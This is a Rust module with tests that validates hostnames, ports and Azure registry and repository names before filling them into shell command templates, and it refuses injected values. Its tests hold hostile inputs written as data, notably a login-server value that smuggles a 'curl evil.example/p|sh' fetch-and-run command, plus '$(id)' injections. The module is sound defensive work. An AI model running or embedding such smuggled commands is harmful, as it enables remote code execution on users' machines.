//! What a value is, checked once for everyone: host names, registry names, repositories, IP
//! addresses; Azure's registry domains; redacted placeholders. And the one function that puts
//! values into a command a person will paste into a shell: a value that is not what it claims to
//! be never reaches the command; a visible placeholder takes its place.

use std::net::{Ipv4Addr, Ipv6Addr};

/// The authority of a URL, as written: `https://r.azurecr.io:443/v2/` → `r.azurecr.io:443`. What
/// it holds is not checked here: a value for a command goes through [`fill`].
pub fn url_authority(url: &str) -> Option<&str> {
    let rest = url.split_once("://")?.1;
    let authority = rest.split(['/', '?', '#']).next()?;
    (!authority.is_empty()).then_some(authority)
}

/// Azure's registry domains (public cloud, China, US Government). Data endpoints
/// (`<name>.<region>.data.azurecr.io`) and regional endpoints sit under the same suffixes.
pub const AZURE_REGISTRY_SUFFIXES: [&str; 3] = [".azurecr.io", ".azurecr.cn", ".azurecr.us"];

/// A DNS host name: labels of letters, digits and inner hyphens, 1 to 63 bytes each, at most
/// 253 in all. No trailing dot, no underscore, nothing a shell would read.
pub fn is_dns_name(s: &str) -> bool {
    !s.is_empty()
        && s.len() <= 253
        && s.split('.').all(|label| {
            !label.is_empty()
                && label.len() <= 63
                && !label.starts_with('-')
                && !label.ends_with('-')
                && label
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b == b'-')
        })
}

/// A dotted IPv4 address or an IPv6 address (bare or in brackets).
pub fn is_ip(s: &str) -> bool {
    let bare = s
        .strip_prefix('[')
        .and_then(|r| r.strip_suffix(']'))
        .unwrap_or(s);
    bare.parse::<Ipv4Addr>().is_ok() || bare.parse::<Ipv6Addr>().is_ok()
}

/// A host as a URL carries it: a DNS name, an IPv4 address, or an IPv6 address in brackets.
pub fn is_host(s: &str) -> bool {
    if s.starts_with('[') {
        return is_ip(s);
    }
    s.parse::<Ipv4Addr>().is_ok() || is_dns_name(s)
}

/// A host with an optional `:port` (1 to 65535): what a login server is.
pub fn is_host_port(s: &str) -> bool {
    let (host, port) = split_port(s);
    is_host(host) && port.is_none_or(is_port)
}

/// A port: 1 to 65535, digits only.
pub fn is_port(p: &str) -> bool {
    !p.is_empty()
        && p.len() <= 5
        && p.bytes().all(|b| b.is_ascii_digit())
        && p.parse::<u16>().is_ok_and(|n| n > 0)
}

/// `host:port` → (`host`, `port`); an IPv6 literal keeps its brackets.
pub fn split_port(s: &str) -> (&str, Option<&str>) {
    if s.starts_with('[') {
        return match s.find("]:") {
            Some(i) => (&s[..=i], Some(&s[i + 2..])),
            None => (s, None),
        };
    }
    match s.rsplit_once(':') {
        Some((h, p)) if !h.contains(':') => (h, Some(p)),
        _ => (s, None),
    }
}

/// A host under one of Azure's registry domains, with a name before the suffix.
pub fn is_azure_registry_host(host: &str) -> bool {
    let host = host.to_ascii_lowercase();
    is_dns_name(&host)
        && AZURE_REGISTRY_SUFFIXES
            .iter()
            .any(|s| host.len() > s.len() && host.ends_with(s))
}

/// This machine, as the page's CSP lets plain http reach it: `localhost` and `127.0.0.1`.
pub fn is_loopback(host: &str) -> bool {
    host.eq_ignore_ascii_case("localhost") || host == "127.0.0.1"
}

/// A registry name as Azure allows them: letters and digits, up to 50.
pub fn is_registry_name(s: &str) -> bool {
    (1..=50).contains(&s.len()) && s.bytes().all(|b| b.is_ascii_alphanumeric())
}

/// A repository name by the distribution spec's grammar: path components of lower-case letters
/// and digits joined by `.`, `_`, `__` or runs of `-`, separated by `/`; 255 bytes at most.
pub fn is_repository(s: &str) -> bool {
    !s.is_empty() && s.len() <= 255 && s.split('/').all(is_path_component)
}

fn is_path_component(c: &str) -> bool {
    let alnum = |b: u8| b.is_ascii_lowercase() || b.is_ascii_digit();
    let bytes = c.as_bytes();
    let (Some(first), Some(last)) = (bytes.first(), bytes.last()) else {
        return false;
    };
    if !alnum(*first) || !alnum(*last) {
        return false;
    }
    // Separators: `.`, `_`, `__`, or one or more `-`; never two different ones in a row.
    let mut run: Vec<u8> = Vec::new();
    for &b in bytes {
        if alnum(b) {
            let ok = match run.as_slice() {
                [] | [b'.'] | [b'_'] | [b'_', b'_'] => true,
                r => r.iter().all(|x| *x == b'-'),
            };
            if !ok {
                return false;
            }
            run.clear();
        } else if matches!(b, b'.' | b'_' | b'-') {
            run.push(b);
        } else {
            return false;
        }
    }
    true
}

/// A tag by the distribution spec's grammar: a word character, then up to 127 of `[\w.-]`.
pub fn is_tag(s: &str) -> bool {
    let word = |b: u8| b.is_ascii_alphanumeric() || b == b'_';
    let bytes = s.as_bytes();
    bytes.first().is_some_and(|b| word(*b))
        && bytes.len() <= 128
        && bytes.iter().all(|b| word(*b) || matches!(b, b'.' | b'-'))
}

/// A value someone hid before pasting: `***.azurecr.io`, `<redacted>`, `<registry-name>`,
/// `x.x.x.x`.
pub fn is_redacted(s: &str) -> bool {
    s.starts_with(['*', '<'])
        || s.contains('*')
        || (s.contains('<') && s.contains('>'))
        || (s.contains(['x', 'X']) && s.bytes().all(|b| matches!(b, b'x' | b'X' | b'.')))
}

/// The kinds of value a command can carry.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Slot {
    /// `{name}`: a registry name.
    Name,
    /// `{server}`: a login server, host with optional port.
    Server,
    /// `{origin}`: `https://host[:port]`.
    Origin,
    /// `{host}`: a host without port.
    Host,
    /// `{repository}`
    Repository,
    /// `{ip}`
    Ip,
}

impl Slot {
    pub const ALL: [Slot; 6] = [
        Slot::Name,
        Slot::Server,
        Slot::Origin,
        Slot::Host,
        Slot::Repository,
        Slot::Ip,
    ];

    /// The marker in a command template.
    pub fn marker(self) -> &'static str {
        match self {
            Slot::Name => "{name}",
            Slot::Server => "{server}",
            Slot::Origin => "{origin}",
            Slot::Host => "{host}",
            Slot::Repository => "{repository}",
            Slot::Ip => "{ip}",
        }
    }

    /// What stands in the command when there is no valid value.
    pub fn placeholder(self) -> &'static str {
        match self {
            Slot::Name => "<registry-name>",
            Slot::Server => "<login-server>",
            Slot::Origin => "https://<login-server>",
            Slot::Host => "<host>",
            Slot::Repository => "<repository>",
            Slot::Ip => "<ip-address>",
        }
    }

    /// Whether a value is what this slot claims it is.
    pub fn accepts(self, value: &str) -> bool {
        match self {
            Slot::Name => is_registry_name(value),
            Slot::Server => is_host_port(value),
            Slot::Origin => ["https://", "http://"]
                .iter()
                .any(|scheme| value.strip_prefix(scheme).is_some_and(is_host_port)),
            Slot::Host => is_host(value),
            Slot::Repository => is_repository(value),
            Slot::Ip => is_ip(value),
        }
    }
}

/// A command ready to show, and the slots whose given value was refused.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Filled {
    pub text: String,
    /// Values that were given but failed their grammar (a redacted value is not a refusal).
    pub refused: Vec<Slot>,
}

/// What a slot's given value is worth.
enum Checked {
    Valid(String),
    /// Not given, empty, or hidden by the person (`***`, `<redacted>`).
    Absent,
    /// Given, and not what the slot claims.
    Refused,
}

fn check(values: &[(Slot, Option<&str>)], slot: Slot) -> Checked {
    let Some(v) = values
        .iter()
        .find(|(s, _)| *s == slot)
        .and_then(|(_, v)| *v)
        .map(str::trim)
        .filter(|v| !v.is_empty() && !is_redacted(v))
    else {
        return Checked::Absent;
    };
    if slot.accepts(v) {
        Checked::Valid(v.to_owned())
    } else {
        Checked::Refused
    }
}

/// The slots whose given value fails its grammar.
pub fn refused(values: &[(Slot, Option<&str>)]) -> Vec<Slot> {
    Slot::ALL
        .into_iter()
        .filter(|s| matches!(check(values, *s), Checked::Refused))
        .collect()
}

/// Put values into a command template. Every value is checked against the grammar of its slot;
/// a missing, redacted or invalid one becomes the slot's placeholder, and an invalid one is
/// listed in `refused`. A login server that is missing or redacted is made from the registry
/// name (`{name}.azurecr.io`), as the CLI would.
pub fn fill(template: &str, values: &[(Slot, Option<&str>)]) -> Filled {
    let mut text = template.to_owned();
    let mut refused = Vec::new();
    for slot in Slot::ALL {
        if !text.contains(slot.marker()) {
            continue;
        }
        let value = match (slot, check(values, slot)) {
            (_, Checked::Valid(v)) => v,
            (_, Checked::Refused) => {
                refused.push(slot);
                slot.placeholder().to_owned()
            }
            // Missing or hidden: the public cloud's login server of the named registry.
            (Slot::Server, Checked::Absent) => match check(values, Slot::Name) {
                Checked::Valid(name) => format!("{name}.azurecr.io"),
                _ => format!("{}.azurecr.io", Slot::Name.placeholder()),
            },
            (_, Checked::Absent) => slot.placeholder().to_owned(),
        };
        text = text.replace(slot.marker(), &value);
    }
    Filled { text, refused }
}

/// The registry's own name from its login server (`contoso.azurecr.io` → `contoso`,
/// `contoso.westeurope.data.azurecr.io` → `contoso`), unless it is redacted or the server is not
/// a host name at all (then nothing in it is trusted, not even its first label).
pub fn registry_name_of(server: &str) -> Option<String> {
    if !is_host_port(server) {
        return None;
    }
    let first = server.split('.').next()?;
    is_registry_name(first).then(|| first.to_ascii_lowercase())
}

/// Whether a dotted IPv4 address is in a private range (RFC 1918).
pub fn is_private_ipv4(ip: &str) -> bool {
    let parts: Vec<u8> = ip.split('.').filter_map(|p| p.parse().ok()).collect();
    match parts.as_slice() {
        [10, _, _, _] => true,
        [172, b, _, _] => (16..=31).contains(b),
        [192, 168, _, _] => true,
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn host_names_addresses_and_ports() {
        for ok in [
            "myreg.azurecr.io",
            "a-b.westeurope.data.azurecr.io",
            "127.0.0.1",
            "[::1]",
            "localhost",
            "X1",
        ] {
            assert!(is_host(ok), "{ok}");
        }
        for bad in [
            "",
            "-a.io",
            "a-.io",
            "a..io",
            "a.io.",
            "a_b.io",
            "a.io;id",
            "$(id).io",
            "a b",
            "é.io",
            "[::1",
            "[nothost]",
        ] {
            assert!(!is_host(bad), "{bad}");
        }
        assert!(is_host_port("127.0.0.1:5000"));
        assert!(is_host_port("[::1]:5000"));
        assert!(!is_host_port("a.io:0"));
        assert!(!is_host_port("a.io:65536"));
        assert!(!is_host_port("a.io:+80"));
        assert!(!is_host_port("a.io:"));
        assert!(!is_host(&format!("{}.io", "a".repeat(64))));
    }

    #[test]
    fn azure_registry_domains() {
        assert!(is_azure_registry_host("myreg.azurecr.io"));
        assert!(is_azure_registry_host("MyReg.AzureCR.cn"));
        assert!(is_azure_registry_host("r.westeurope.data.azurecr.us"));
        assert!(!is_azure_registry_host("azurecr.io"));
        assert!(!is_azure_registry_host(".azurecr.io"));
        assert!(!is_azure_registry_host("myreg.azurecr.io.evil.example"));
        assert!(!is_azure_registry_host("myregazurecr.io"));
        assert!(!is_azure_registry_host("x;y.azurecr.io"));
    }

    #[test]
    fn repositories_and_tags_follow_the_distribution_grammar() {
        for ok in [
            "hello",
            "a/b/c",
            "a.b",
            "a_b",
            "a__b",
            "a---b",
            "team/app-1.2",
        ] {
            assert!(is_repository(ok), "{ok}");
        }
        for bad in [
            "", "Hello", "a//b", "/a", "a/", "a._b", "a___b", "-a", "a-", "a;b", "a b",
        ] {
            assert!(!is_repository(bad), "{bad}");
        }
        assert!(is_tag("v1.2-rc_3"));
        assert!(!is_tag(".v1"));
        assert!(!is_tag(&"a".repeat(129)));
    }

    #[test]
    fn a_hostile_login_server_never_reaches_the_command() {
        let server = "x.io;curl${IFS}evil.example/p|sh;#.azurecr.io";
        let f = fill(
            "curl -si https://{server}/v2/",
            &[(Slot::Name, None), (Slot::Server, Some(server))],
        );
        assert_eq!(f.text, "curl -si https://<login-server>/v2/");
        assert_eq!(f.refused, vec![Slot::Server]);
    }

    #[test]
    fn missing_or_redacted_values_are_placeholders_not_refusals() {
        let f = fill(
            "az acr login -n {name} && curl https://{server}/v2/",
            &[
                (Slot::Name, Some("contoso")),
                (Slot::Server, Some("***.azurecr.io")),
            ],
        );
        assert_eq!(
            f.text,
            "az acr login -n contoso && curl https://contoso.azurecr.io/v2/"
        );
        assert!(f.refused.is_empty());
        let f = fill("az acr show -n {name}", &[]);
        assert_eq!(f.text, "az acr show -n <registry-name>");
        assert!(f.refused.is_empty());
        let f = fill("nslookup {host}", &[(Slot::Host, Some("a.io"))]);
        assert_eq!(f.text, "nslookup a.io");
    }
}
